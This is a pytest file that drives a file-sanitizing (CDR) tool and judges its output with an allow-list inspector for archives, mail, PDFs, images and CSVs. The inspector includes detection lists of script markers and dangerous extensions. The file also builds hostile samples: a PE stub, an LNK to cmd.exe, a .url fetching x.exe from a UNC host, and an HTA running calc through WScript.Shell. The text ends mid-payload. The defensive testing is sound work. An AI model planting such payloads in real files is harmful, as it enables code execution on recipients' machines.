"""Attacks on archives (ZIP, 7z, tar, LZH, CAB, PPAP) and mail (.eml, .msg, TNEF), through the
real CLI, judged by an inspector written here from the formats' specifications.

Every hostile file is built in this file from PKWARE's APPNOTE, the 7z/tar/LHA/MS-CAB layouts,
RFC 5322/2045-2049/2183/2231, MS-CFB, MS-OXMSG and MS-OXTNEF. Nothing is imported from ``cdr``:
the product is driven only by ``cli.py sanitize``. The inspector accepts only what it knows to
be harmless (allow-list): a released archive whose bytes are exactly the structures parsed,
whose every name is safe and whose every member is itself a harmless file (judged
recursively); a released mail with allowed headers, text or clean HTML, attachments likewise.

Each hostile case asserts "quarantined, or released and accepted by the inspector"; a second
test shows the inspector refuses the hostile file as sent (so each check can fail). Benign
controls (also controls of the hand-written builders) must be released intact.
"""

from __future__ import annotations

import base64
import binascii
import email
import email.header
import email.policy
import email.utils
import io
import json
import os
import re
import stat
import struct
import subprocess
import sys
import tarfile
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from lxml import html as lxml_html
from PIL import Image

from tests.archive_builders import _crc16  # LHA's CRC-16, as tests/attack_mail_archive_builders.py uses it

ROOT = Path(__file__).resolve().parent.parent
PY = ROOT / ".venv" / "bin" / "python"
if not PY.exists():  # pragma: no cover - a checkout without the venv
    PY = Path(sys.executable)


# ---------------------------------------------------------------------------------------------
# the inspector
# ---------------------------------------------------------------------------------------------


class Reject(Exception):
    """The inspector does not know this to be harmless."""


BAD_EXT = {
    "exe", "com", "scr", "pif", "cpl", "dll", "sys", "drv", "ocx", "xll", "msi", "msp", "mst",
    "bat", "cmd", "js", "jse", "vbs", "vbe", "wsf", "wsh", "wsc", "ws", "hta", "sct", "ps1",
    "psm1", "psd1", "ps1xml", "psc1", "msh", "lnk", "url", "website", "scf", "inf", "reg",
    "chm", "hlp", "iso", "img", "vhd", "vhdx", "one", "onepkg", "jar", "jnlp", "application",
    "appref-ms", "gadget", "msc", "settingcontent-ms", "library-ms", "search-ms",
    "searchconnector-ms", "diagcab", "xbap", "apk", "sh", "py", "pl", "rb", "vb", "svg",
    "html", "htm", "xhtml", "mht", "mhtml", "shtml", "xml", "xsl", "docm", "dotm", "xlsm",
    "xltm", "xlam", "pptm", "potm", "ppam", "ppsm", "sldm", "xla", "ppa", "iqy", "slk", "dif",
    "wbk", "rtf", "swf", "accde", "mde", "mdb", "ade", "adp", "ins", "isp", "mad", "maf",
    "mag", "mam", "maq", "mar", "mas", "mat", "mav", "maw", "mda", "mdt", "mdw", "mdz", "ops",
    "prf", "shb", "shs", "vsmacros", "vss", "vst", "vsw", "xnk", "cer", "crt", "der", "hpj",
    "job", "ksh", "csh", "msu", "pcd", "plg", "pst", "tmp", "uue", "xxe", "hqx", "b64", "bin",
    "dat",
}
BIDI = {chr(c) for c in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))}
WIN_FORBIDDEN = set('<>:"|?*\\')
ALLOWED_EXT = {"pdf", "jpg", "jpeg", "png", "gif", "bmp", "tif", "tiff", "webp", "txt", "csv",
               "tsv", "zip", "eml"}
SCRIPT_MARKERS = re.compile(
    rb"(?i)(wscript|cscript|createobject|activexobject|shell\.application|powershell|mshta|"
    rb"<script|<hta:|@echo off|^#!|invoke-expression|iex\s*\(|document\.write|eval\s*\()",
    re.M,
)
MAX_DEPTH = 12


def check_name(name: str) -> None:
    """A path (``a/b/c.pdf``) that unpacks under its folder on Windows and Linux, whose every
    part shows what it is (no control or bidi characters) and no part of which names a
    program, script, shortcut, disk image or active document type."""
    if not name or not name.strip():
        raise Reject(f"empty name {name!r}")
    if len(name) > 200:
        raise Reject(f"name longer than 200 characters ({len(name)})")
    for ch in name:
        cat = unicodedata.category(ch)
        if ch in BIDI or cat in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"):
            raise Reject(f"control/bidi/format character U+{ord(ch):04X} in {name!r}")
    if name != unicodedata.normalize("NFC", name):
        raise Reject(f"name not NFC {name!r}")
    if name.startswith("/") or re.match(r"^[A-Za-z]:", name):
        raise Reject(f"absolute name {name!r}")
    body = name[:-1] if name.endswith("/") else name
    for part in body.split("/"):
        if part in ("", ".", ".."):
            raise Reject(f"empty, . or .. path part in {name!r}")
        folded = unicodedata.normalize("NFKC", part)
        if folded in (".", "..") or "/" in folded or "\\" in folded or "¥" in part or "₩" in part:
            raise Reject(f"path part {part!r} climbs out as NFKC/CP932 reads it")
        if set(part) & WIN_FORBIDDEN or set(folded) & WIN_FORBIDDEN:
            raise Reject(f"Windows-forbidden character in {part!r}")
        if part != part.rstrip(" .") or part != part.lstrip(" "):
            raise Reject(f"leading/trailing dot or space (Windows strips it) in {part!r}")
        if len(part) > 100:
            raise Reject(f"path part longer than 100 characters ({len(part)})")
        base = part.split(".")[0].upper()
        if base in {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(10)),
                    *(f"LPT{i}" for i in range(10))}:
            raise Reject(f"reserved device name {part!r}")
        if re.search(r"\.\{[0-9a-fA-F]{8}(-[0-9a-fA-F]{4}){3}-[0-9a-fA-F]{12}\}$", folded):
            raise Reject(f"shell namespace (CLSID) extension on {part!r}: Explorer opens it as that class")
        for seg in folded.lower().split(".")[1:]:
            if seg.strip() in BAD_EXT:
                raise Reject(f"executable/script/active extension .{seg} in {name!r}")


def inspect_file(name: str, data: bytes, depth: int = 0) -> None:
    """Judge one released file (or member) by its name and content."""
    if depth > MAX_DEPTH:
        raise Reject("nested too deep")
    check_name(name.rsplit("/", 1)[-1])
    ext = name.rsplit(".", 1)[-1].lower() if "." in name.rsplit("/", 1)[-1] else ""
    if ext not in ALLOWED_EXT:
        raise Reject(f"extension {ext!r} of {name!r} is not an allowed harmless type")
    if ext == "pdf":
        check_pdf(data)
    elif ext in ("jpg", "jpeg", "png", "gif", "bmp", "tif", "tiff", "webp"):
        check_image(data, ext)
    elif ext in ("txt", "csv", "tsv"):
        check_text(data)
        if ext in ("csv", "tsv"):
            check_csv(data, "," if ext == "csv" else "\t")
    elif ext == "zip":
        check_zip(data, depth + 1)
    elif ext == "eml":
        check_mail(data, depth + 1)


def check_pdf(data: bytes) -> None:
    if not data.startswith(b"%PDF-"):
        raise Reject("not a PDF (no %PDF- header)")
    if not data.rstrip().endswith(b"%%EOF") or data.count(b"%%EOF") != 1:
        raise Reject("PDF with bytes after %%EOF or an incremental update")
    try:
        pdf = pikepdf.open(io.BytesIO(data))
    except Exception as exc:  # noqa: BLE001 - anything unreadable is refused
        raise Reject(f"PDF does not parse: {exc}") from exc
    with pdf:
        bad_keys = {"/JS", "/JavaScript", "/Launch", "/EmbeddedFile", "/EmbeddedFiles",
                    "/OpenAction", "/AA", "/XFA", "/RichMedia", "/GoToR", "/GoToE"}
        bad_s = {"/JavaScript", "/Launch", "/GoToR", "/GoToE", "/ImportData", "/SubmitForm",
                 "/ResetForm", "/Rendition", "/Movie", "/Sound", "/RichMediaExecute"}
        for obj in pdf.objects:
            if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                keys = set(obj.keys())
                if keys & bad_keys:
                    raise Reject(f"PDF active key {keys & bad_keys}")
                if "/S" in keys and str(obj.get("/S")) in bad_s:
                    raise Reject(f"PDF action {obj.get('/S')}")
                uri = obj.get("/URI")
                if uri is not None and not re.match(r"(?i)^(https?|mailto):", str(uri)):
                    raise Reject(f"PDF link {uri}")
                if str(obj.get("/Type", "")) == "/Filespec" or str(obj.get("/Subtype", "")) in (
                        "/FileAttachment", "/Screen", "/3D", "/RichMedia", "/Movie"):
                    raise Reject("PDF file attachment / multimedia")


IMAGE_FORMATS = {"jpg": "JPEG", "jpeg": "JPEG", "png": "PNG", "gif": "GIF", "bmp": "BMP",
                 "tif": "TIFF", "tiff": "TIFF", "webp": "WEBP"}


def check_image(data: bytes, ext: str) -> None:
    try:
        with Image.open(io.BytesIO(data)) as im:
            fmt = im.format
            im.load()
            if im.width * im.height > 100_000_000:
                raise Reject("image too large")
            gps = im.getexif().get_ifd(0x8825)
    except Reject:
        raise
    except Exception as exc:  # noqa: BLE001
        raise Reject(f"image does not decode: {exc}") from exc
    if fmt != IMAGE_FORMATS[ext]:
        raise Reject(f"image is {fmt} under .{ext}")
    if gps:
        raise Reject("GPS position in EXIF")
    if fmt == "JPEG" and not data.endswith(b"\xff\xd9"):
        raise Reject("bytes after the JPEG's EOI")
    if fmt == "PNG" and not data.endswith(b"IEND\xaeB`\x82"):
        raise Reject("bytes after the PNG's IEND")
    if fmt == "GIF" and not data.endswith(b";"):
        raise Reject("bytes after the GIF trailer")


def decode_text(data: bytes) -> str:
    for bom, enc in ((b"\xef\xbb\xbf", "utf-8"), (b"\xff\xfe", "utf-16-le"),
                     (b"\xfe\xff", "utf-16-be")):
        if data.startswith(bom):
            try:
                return data[len(bom):].decode(enc)
            except UnicodeDecodeError as exc:
                raise Reject(f"text not {enc}") from exc
    for enc in ("utf-8", "cp932"):
        try:
            return data.decode(enc)
        except UnicodeDecodeError:
            continue
    raise Reject("text in no known encoding")


def check_text(data: bytes) -> None:
    if data[:2] == b"MZ" or b"\x00" in data[:4096] and not data.startswith((b"\xff\xfe", b"\xfe\xff")):
        raise Reject("binary data under a text name")
    text = decode_text(data)
    for ch in text:
        if ch in BIDI or (unicodedata.category(ch) == "Cc" and ch not in "\t\r\n"):
            raise Reject(f"control/bidi character U+{ord(ch):04X} in text")
    head = "\n".join(text.splitlines()[:50]).encode("utf-8")
    if SCRIPT_MARKERS.search(head):
        raise Reject(f"script statements in text: {SCRIPT_MARKERS.search(head).group(0)!r}")


def check_csv(data: bytes, delimiter: str) -> None:
    """Cells as Excel on a Japanese Windows reads them: without a BOM, Shift_JIS."""
    import csv

    if data.startswith(b"\xef\xbb\xbf"):
        text = data[3:].decode("utf-8")
    elif data.startswith((b"\xff\xfe", b"\xfe\xff")):
        text = data.decode("utf-16")
    else:
        try:
            text = data.decode("cp932")
        except UnicodeDecodeError as exc:
            raise Reject("BOM-less CSV that is not Shift_JIS") from exc
    if text.lower().startswith(("sep=", "id")):
        raise Reject("CSV starts with sep= or ID (SYLK)")
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            c = cell.lstrip(" \t\r\n")
            if c[:1] in ("=", "+", "-", "@") and not re.fullmatch(r"[-+]?\d+(\.\d+)?", c):
                raise Reject(f"CSV cell Excel would evaluate: {cell!r}")


# -- ZIP ----------------------------------------------------------------------------------------

ALLOWED_EXTRA = {0x5455, 0x7875, 0x000A}


def _extras(blob: bytes) -> list[tuple[int, bytes]]:
    out, i = [], 0
    while i < len(blob):
        if i + 4 > len(blob):
            raise Reject("truncated extra field")
        hid, size = struct.unpack_from("<HH", blob, i)
        if i + 4 + size > len(blob):
            raise Reject("extra field runs past its area")
        out.append((hid, blob[i + 4:i + 4 + size]))
        i += 4 + size
    return out


def check_zip(data: bytes, depth: int = 1) -> None:
    """Parse the ZIP byte for byte: every byte belongs to a local header, its data, a data
    descriptor, the central directory or the end record; local headers agree with the
    directory; then judge every member's name and content."""
    if depth > MAX_DEPTH:
        raise Reject("archives nested too deep")
    if len(data) < 22 or data[-22:-18] != b"PK\x05\x06":
        raise Reject("no end-of-central-directory record exactly at the end (comment or trailing data)")
    eocd = len(data) - 22
    disk, cd_disk, n_disk, n_total, cd_size, cd_off, clen = struct.unpack_from("<HHHHIIH", data, eocd + 4)
    if clen or disk or cd_disk or n_disk != n_total:
        raise Reject("ZIP comment or multi-disk fields")
    if n_total == 0xFFFF or cd_off == 0xFFFFFFFF:
        raise Reject("ZIP64 not accepted")
    if cd_off + cd_size != eocd:
        raise Reject("bytes between the central directory and the end record")
    entries = []
    p = cd_off
    for _ in range(n_total):
        if data[p:p + 4] != b"PK\x01\x02":
            raise Reject("bad central directory entry")
        (made_by, _need, flags, method, _t, _d, crc, csize, usize, n, e, c, _dn, _ia, ext_attr,
         off) = struct.unpack_from("<HHHHHHIIIHHHHHII", data, p + 4)
        raw_name = data[p + 46:p + 46 + n]
        extra = data[p + 46 + n:p + 46 + n + e]
        if c:
            raise Reject("member comment")
        entries.append((raw_name, made_by, flags, method, crc, csize, usize, extra, ext_attr, off))
        p += 46 + n + e + c
    if p != eocd:
        raise Reject("central directory size disagrees with its entries")
    cursor = 0
    names: set[str] = set()
    for raw_name, made_by, flags, method, crc, csize, usize, extra, ext_attr, off in sorted(
            entries, key=lambda t: t[-1]):
        if off != cursor:
            raise Reject(f"gap, prefix or overlap before local header at {off} (expected {cursor})")
        if data[off:off + 4] != b"PK\x03\x04":
            raise Reject("no local header where the directory says")
        (_v, lflags, lmethod, _t, _d, lcrc, lcsize, lusize, ln, le) = struct.unpack_from(
            "<HHHHHIIIHH", data, off + 4)
        lname = data[off + 30:off + 30 + ln]
        lextra = data[off + 30 + ln:off + 30 + ln + le]
        if lname != raw_name or lflags != flags or lmethod != method:
            raise Reject(f"local header disagrees with the directory ({lname!r} vs {raw_name!r})")
        if flags & 0x41 or flags & 0x2000:
            raise Reject("encrypted member")
        if method not in (0, 8):
            raise Reject(f"compression method {method}")
        if not flags & 0x8 and (lcrc, lcsize, lusize) != (crc, csize, usize):
            raise Reject("local sizes/CRC disagree with the directory")
        for blob in (extra, lextra):
            for hid, body in _extras(blob):
                if hid == 0x7075:
                    raise Reject(f"Unicode path extra field ({body[5:]!r})")
                if hid not in ALLOWED_EXTRA:
                    raise Reject(f"unknown extra field 0x{hid:04x}")
        start = off + 30 + ln + le
        end = start + csize
        if flags & 0x8:
            if data[end:end + 4] == b"PK\x07\x08":
                end += 4
            end += 12
        cursor = end
        if flags & 0x800:
            name = raw_name.decode("utf-8")
        else:
            try:
                name = raw_name.decode("ascii")
            except UnicodeDecodeError as exc:
                raise Reject(f"non-ASCII name without the UTF-8 flag {raw_name!r}") from exc
        check_name(name)
        if name in names:
            raise Reject(f"duplicate member {name!r}")
        names.add(name)
        host = made_by >> 8
        mode = ext_attr >> 16 if host == 3 else 0
        if ext_attr & 0x10 and not name.endswith("/"):
            raise Reject("directory attribute on a file")
        if mode:
            if name.endswith("/"):
                if stat.S_IFMT(mode) not in (0, stat.S_IFDIR):
                    raise Reject(f"directory entry with mode {oct(mode)}")
            elif stat.S_IFMT(mode) not in (0, stat.S_IFREG):
                raise Reject(f"member {name!r} is not a regular file (mode {oct(mode)}: link/device)")
            elif mode & 0o7111:
                raise Reject(f"executable or set-id bits on {name!r}")
        if host not in (0, 3, 10, 19):
            raise Reject(f"made by unknown host {host}")
    if cursor != cd_off:
        raise Reject(f"bytes between the last member ({cursor}) and the central directory ({cd_off})")
    try:
        zf = zipfile.ZipFile(io.BytesIO(data))
        infos = zf.infolist()
        total = 0
        for info in infos:
            if info.filename.endswith("/"):
                if info.file_size:
                    raise Reject("directory entry with data")
                continue
            if info.file_size > 200_000_000:
                raise Reject("member too large")
            total += info.file_size
            content = zf.read(info)
            inspect_file(info.filename, content, depth)
        if total > 1_000_000_000:
            raise Reject("archive too large once unpacked")
    except (zipfile.BadZipFile, zlib.error, NotImplementedError, RuntimeError) as exc:
        raise Reject(f"ZIP does not read: {exc}") from exc


# -- mail ---------------------------------------------------------------------------------------

TOP_HEADERS = {"from", "to", "cc", "reply-to", "date", "subject", "message-id", "in-reply-to",
               "references", "x-cdr-sanitized", "mime-version", "content-type",
               "content-transfer-encoding"}
PART_HEADERS = {"content-type", "content-transfer-encoding", "content-disposition", "content-id",
                "mime-version", "content-description"}
ATTACH_TYPES = {"application/pdf", "image/jpeg", "image/png", "image/gif", "image/bmp",
                "image/tiff", "image/webp", "text/plain", "text/csv", "application/zip",
                "application/x-zip-compressed", "message/rfc822", "application/octet-stream"}
UNC = re.compile(r"\\\\[^\\\s]+\\")
HTML_TAGS = {"html", "head", "body", "title", "meta", "p", "div", "span", "br", "hr", "a", "b",
             "i", "u", "s", "strike", "strong", "em", "small", "big", "sub", "sup", "tt", "code",
             "pre", "blockquote", "q", "cite", "abbr", "address", "font", "center", "table",
             "thead", "tbody", "tfoot", "tr", "td", "th", "caption", "col", "colgroup", "ul",
             "ol", "li", "dl", "dt", "dd", "h1", "h2", "h3", "h4", "h5", "h6", "img", "ins",
             "del", "mark", "wbr", "nobr"}
HTML_ATTRS = {"href", "src", "alt", "title", "style", "class", "dir", "lang", "align", "valign",
              "width", "height", "colspan", "rowspan", "border", "cellpadding", "cellspacing",
              "color", "face", "size", "bgcolor", "rel", "charset", "target", "start", "type",
              "id", "name", "content", "http-equiv", "span", "summary", "scope", "cite",
              "datetime", "nowrap", "hspace", "vspace", "frame", "rules", "abbr", "headers",
              "xml:lang", "reversed"}


def _header_text(value: object) -> str:
    return str(email.header.make_header(email.header.decode_header(str(value))))


def check_plain(text: str) -> None:
    if re.search(r"(?m)^begin(-base64)? [0-7]{3,4} \S", text):
        raise Reject("uuencoded block in the body")
    if "=ybegin" in text:
        raise Reject("yEnc block in the body")
    if "(This file must be converted with BinHex" in text:
        raise Reject("BinHex block in the body")
    if UNC.search(text):
        raise Reject(f"UNC path in the body: {UNC.search(text).group(0)!r}")
    if re.search(r"(?i)\bfile:/", text):
        raise Reject("file: address in the body")
    for ch in text:
        if ch in BIDI or (unicodedata.category(ch) == "Cc" and ch not in "\t\r\n\x0c"):
            raise Reject(f"control/bidi character U+{ord(ch):04X} in the body")


def _href_ok(value: str) -> bool:
    v = re.sub(r"[\x00-\x20\x7f]", "", value)
    if v.startswith("#"):
        return True
    m = re.match(r"(?i)^(https?)://[^\\]", v)
    if m and "\\" not in v:
        return True
    if re.match(r"(?i)^mailto:", v):
        query = v.split("?", 1)[1] if "?" in v else ""
        keys = {kv.split("=", 1)[0].lower() for kv in query.split("&") if kv}
        return keys <= {"subject", "body", "cc", "bcc"}
    return False


def check_html(text: str, cids: set[str]) -> None:
    low = text.lower()
    for needle in ("javascript:", "vbscript:", "file:", "data:", "expression(", "@import",
                   "url(", "<script", "<iframe", "<object", "<embed", "<form", "<base",
                   "<link", "<svg", "<math", "<frame", "srcdoc", "<!--"):
        if needle in low:
            raise Reject(f"HTML holds {needle!r}")
    if UNC.search(text) or "&#92;&#92;" in low:
        raise Reject("UNC path in HTML")
    try:
        doc = lxml_html.document_fromstring(text)
    except Exception as exc:  # noqa: BLE001
        raise Reject(f"HTML does not parse: {exc}") from exc
    for el in doc.iter():
        if not isinstance(el.tag, str):
            raise Reject("comment/processing instruction in HTML")
        tag = el.tag.lower()
        if tag not in HTML_TAGS:
            raise Reject(f"HTML element <{tag}>")
        for attr, value in el.attrib.items():
            a = attr.lower()
            if a not in HTML_ATTRS:
                raise Reject(f"HTML attribute {a}= on <{tag}>")
            if a == "href" and not _href_ok(value):
                raise Reject(f"HTML link {value!r}")
            if a == "src" and not (tag == "img" and value.startswith("cid:")):
                raise Reject(f"HTML loads {value!r}")
            if a == "style" and re.search(r"(?i)url|expression|import|\\|behavior|binding", value):
                raise Reject(f"HTML style loads: {value!r}")
            if tag == "meta" and a == "http-equiv" and value.lower() != "content-type":
                raise Reject(f"HTML meta http-equiv={value}")
            if "\\\\" in value or re.search(r"(?i)^\s*(javascript|vbscript|file|data):", value):
                raise Reject(f"HTML attribute value {value!r}")


def _param_names(part: email.message.Message) -> list[str]:
    found = []
    for header in ("content-type", "content-disposition"):
        for key in ("name", "filename"):
            raw = part.get_param(key, header=header)
            if raw is None:
                continue
            value = email.utils.collapse_rfc2231_value(raw)
            found.append(_header_text(value))
    return found


def check_mail(data: bytes, depth: int = 1) -> None:
    if depth > MAX_DEPTH:
        raise Reject("mail nested too deep")
    msg = email.message_from_bytes(data, policy=email.policy.compat32)
    _check_message(msg, depth, top=True)


def _check_message(msg: email.message.Message, depth: int, top: bool) -> None:
    for key, value in msg.items():
        if key.lower() not in TOP_HEADERS:
            raise Reject(f"mail header {key} not allowed")
        decoded = _header_text(value)
        if re.search(r"[\x00-\x08\x0b-\x1f\x7f]|[\r\n]\S", decoded.replace("\r\n ", " ").replace("\n ", " ").replace("\r\n\t", " ").replace("\n\t", " ")):
            raise Reject(f"control characters or a line break in header {key}: {decoded!r}")
    for key in ("content-type", "content-transfer-encoding", "subject", "from"):
        if len(msg.get_all(key, [])) > 1:
            raise Reject(f"header {key} twice")
    cids = set()
    for part in msg.walk():
        cid = part.get("content-id")
        if cid:
            cids.add(cid.strip().strip("<>"))
    _check_part(msg, depth, cids, is_top=True)


def _check_part(part: email.message.Message, depth: int, cids: set[str], is_top: bool = False) -> None:
    if part.defects:
        raise Reject(f"MIME defects {part.defects}")
    if not is_top:
        for key, _value in part.items():
            if key.lower() not in PART_HEADERS:
                raise Reject(f"part header {key} not allowed")
        for key in ("content-type", "content-disposition", "content-transfer-encoding"):
            if len(part.get_all(key, [])) > 1:
                raise Reject(f"part header {key} twice")
    for header in ("content-type", "content-disposition"):
        keys = [k.lower() for k, _ in (part.get_params(header=header) or [])]
        if len(keys) != len(set(keys)):
            raise Reject(f"parameter given twice in {header}: {keys}")
    ctype = part.get_content_type()
    cte = str(part.get("content-transfer-encoding") or "7bit").strip().lower()
    if cte not in ("7bit", "8bit", "base64", "quoted-printable", "binary"):
        raise Reject(f"transfer encoding {cte}")
    if part.is_multipart():
        if ctype == "message/rfc822":
            inner = part.get_payload(0)
            _check_message(inner, depth + 1, top=False)
            return
        if ctype not in ("multipart/mixed", "multipart/alternative", "multipart/related"):
            raise Reject(f"container {ctype}")
        for child in part.get_payload():
            _check_part(child, depth, cids)
        return
    names = _param_names(part)
    disposition = str(part.get("content-disposition") or "").split(";")[0].strip().lower()
    payload = part.get_payload(decode=True) or b""
    if names or disposition == "attachment":
        if not names:
            raise Reject("attachment without a name")
        if len(set(names)) != 1:
            raise Reject(f"attachment names disagree: {names}")
        if ctype not in ATTACH_TYPES:
            raise Reject(f"attachment type {ctype}")
        check_name(names[0])
        inspect_file(names[0], payload, depth)
        return
    if ctype == "text/plain":
        charset = part.get_content_charset() or "us-ascii"
        try:
            text = payload.decode(charset)
        except (LookupError, UnicodeDecodeError) as exc:
            raise Reject(f"body not in {charset}") from exc
        check_plain(text)
    elif ctype == "text/html":
        charset = part.get_content_charset() or "us-ascii"
        try:
            text = payload.decode(charset)
        except (LookupError, UnicodeDecodeError) as exc:
            raise Reject(f"HTML not in {charset}") from exc
        check_html(text, cids)
    elif ctype.startswith("image/") and part.get("content-id"):
        check_image(payload, {"image/jpeg": "jpg", "image/png": "png", "image/gif": "gif"}.get(ctype, "x"))
    else:
        raise Reject(f"part {ctype} is neither text nor a named attachment")


def inspect_output(path: Path) -> None:
    inspect_file(path.name, path.read_bytes())


def test_inspector_accepts_what_it_knows() -> None:
    """The inspector is not a wall: a plain ZIP written by zipfile, a plain mail pass."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("資料/写真.jpg", jpeg_bytes())
        z.writestr("報告.pdf", pdf_bytes(2))
        z.writestr("memo.txt", "こんにちは\r\n".encode())
    inspect_file("x.zip", buf.getvalue())
    inspect_file("x.eml", benign_mail())


# ---------------------------------------------------------------------------------------------
# payloads and builders
# ---------------------------------------------------------------------------------------------


def jpeg_bytes(w: int = 64, h: int = 48) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (w, h), (30, 120, 200)).save(buf, "JPEG", quality=90)
    return buf.getvalue()


def png_bytes(w: int = 32, h: int = 16) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (w, h), (10, 200, 20)).save(buf, "PNG")
    return buf.getvalue()


def pdf_bytes(pages: int = 2, word: str = "Hello") -> bytes:
    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1,
                                                BaseFont=pikepdf.Name.Helvetica))
    for i in range(pages):
        content = f"BT /F1 24 Tf 72 700 Td ({word} page {i + 1}) Tj ET".encode()
        page = pikepdf.Dictionary(
            Type=pikepdf.Name.Page, MediaBox=[0, 0, 595, 842],
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
            Contents=pdf.make_stream(content))
        pdf.pages.append(pikepdf.Page(page))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pe_bytes(dll: bool = False) -> bytes:
    """A minimal PE32 image (MZ stub, PE signature, COFF and optional header)."""
    mz = bytearray(b"MZ" + b"\x90\x00" * 29)
    mz += b"\x00" * (0x3C - len(mz)) + struct.pack("<I", 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 0, 0, 0, 0, 0xE0, 0x0102 | (0x2000 if dll else 0))
    opt = bytearray(0xE0)
    struct.pack_into("<H", opt, 0, 0x10B)
    struct.pack_into("<I", opt, 16, 0x1000)  # entry point
    struct.pack_into("<H", opt, 68, 2)  # subsystem GUI
    return bytes(mz) + b"PE\x00\x00" + coff + bytes(opt) + b"\x00" * 256


def lnk_bytes() -> bytes:
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    header = struct.pack("<I", 0x4C) + clsid + struct.pack("<II", 0x00000020 | 0x4, 0x20)
    header += b"\x00" * (0x4C - len(header))
    target = "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le")
    return header + struct.pack("<H", len(target) // 2) + target


def cfb_bytes(tree: dict, root_clsid: bytes = b"\x00" * 16) -> bytes:
    """An MS-CFB (OLE2) compound file, version 3, 512-byte sectors, mini stream for the small."""
    ents: list[dict] = []

    def add(name: str, node: object, typ: int) -> int:
        idx = len(ents)
        ent = {"name": name, "type": typ, "kids": [], "clsid": b"\x00" * 16, "data": b""}
        ents.append(ent)
        if isinstance(node, dict):
            ent["clsid"] = node.get("__clsid__", b"\x00" * 16)
            for k, v in node.items():
                if k != "__clsid__":
                    ent["kids"].append(add(k, v, 1 if isinstance(v, dict) else 2))
        else:
            ent["data"] = node
        return idx

    add("Root Entry", tree, 5)
    ents[0]["clsid"] = root_clsid
    ENDC, FREE, FATS, NOS = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    mini = bytearray()
    minifat: list[int] = []
    big: list[dict] = []
    for e in ents:
        if e["type"] != 2 or not e["data"]:
            e["start"] = ENDC if e["type"] == 2 else 0
            continue
        if len(e["data"]) < 4096:
            first = len(mini) // 64
            n = -(-len(e["data"]) // 64)
            e["start"] = first
            mini += e["data"] + b"\x00" * (n * 64 - len(e["data"]))
            minifat += [first + i + 1 for i in range(n - 1)] + [ENDC]
        else:
            big.append(e)
    n_dir = -(-len(ents) // 4)
    n_minifat = -(-len(minifat) * 4 // 512)
    n_ministream = -(-len(mini) // 512)
    n_big = [-(-len(e["data"]) // 512) for e in big]
    other = n_dir + n_minifat + n_ministream + sum(n_big)
    n_fat = 1
    while n_fat * 128 < other + n_fat:
        n_fat += 1
    fat = [FATS] * n_fat
    sectors: list[bytes] = []

    def chain(count: int) -> int:
        first = len(fat)
        for i in range(count):
            fat.append(first + i + 1 if i < count - 1 else ENDC)
        return first

    dir_start = chain(n_dir)
    minifat_start = chain(n_minifat) if n_minifat else ENDC
    ministream_start = chain(n_ministream) if n_ministream else ENDC
    for e, n in zip(big, n_big, strict=True):
        e["start"] = chain(n)
    ents[0]["start"] = ministream_start
    ents[0]["size"] = len(mini)

    def key(i: int) -> tuple[int, str]:
        return (len(ents[i]["name"]), ents[i]["name"].upper())

    right = {i: NOS for i in range(len(ents))}
    child = {i: NOS for i in range(len(ents))}
    for i, e in enumerate(ents):
        kids = sorted(e["kids"], key=key)
        if kids:
            child[i] = kids[0]
            for a, b in zip(kids, kids[1:], strict=False):
                right[a] = b
    dirblob = bytearray()
    for i, e in enumerate(ents):
        nm = e["name"].encode("utf-16-le") + b"\x00\x00"
        size = e.get("size", len(e["data"]))
        dirblob += (nm + b"\x00" * (64 - len(nm)) + struct.pack("<HBBIII", len(nm), e["type"], 1,
                    NOS, right[i], child[i]) + e["clsid"] + struct.pack("<I", 0) + b"\x00" * 16
                    + struct.pack("<IQ", e["start"], size))
    while len(dirblob) < n_dir * 512:
        dirblob += b"\x00" * 64 + struct.pack("<HBBIII", 0, 0, 0, NOS, NOS, NOS) + b"\x00" * 36 + struct.pack("<IQ", 0, 0)
    fat += [FREE] * (n_fat * 128 - len(fat))
    fatblob = b"".join(struct.pack("<I", x) for x in fat)
    mfblob = b"".join(struct.pack("<I", x) for x in minifat)
    mfblob += b"\xff" * (n_minifat * 512 - len(mfblob))
    body = fatblob + bytes(dirblob) + mfblob + bytes(mini) + b"\x00" * (n_ministream * 512 - len(mini))
    for e, n in zip(big, n_big, strict=True):
        body += e["data"] + b"\x00" * (n * 512 - len(e["data"]))
    difat = [i for i in range(n_fat)] + [FREE] * (109 - n_fat)
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 16 + struct.pack(
        "<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 6 + struct.pack(
        "<IIIIIIIII", 0, n_fat, dir_start, 0, 4096, minifat_start, n_minifat, ENDC, 0)
        + b"".join(struct.pack("<I", x) for x in difat))
    del sectors
    return header + body


def msi_bytes() -> bytes:
    clsid = bytes.fromhex("84100c000000000000c0000000000046")  # {000C1084-...-000000000046}
    return cfb_bytes({"\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824": b"\x00" * 64,
                      "\x05SummaryInformation": b"\xfe\xff" + b"\x00" * 200}, root_clsid=clsid)


MEMBER_PAYLOADS: dict[str, Callable[[], bytes]] = {
    "exe": pe_bytes,
    "lnk": lnk_bytes,
    "url": lambda: b"[InternetShortcut]\r\nURL=file://\\\\198.51.100.7\\share\\x.exe\r\nIconIndex=1\r\n",
    "hta": lambda: (b'<html><head><HTA:APPLICATION ID="a" WINDOWSTATE="minimize"/>'
                    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc"'
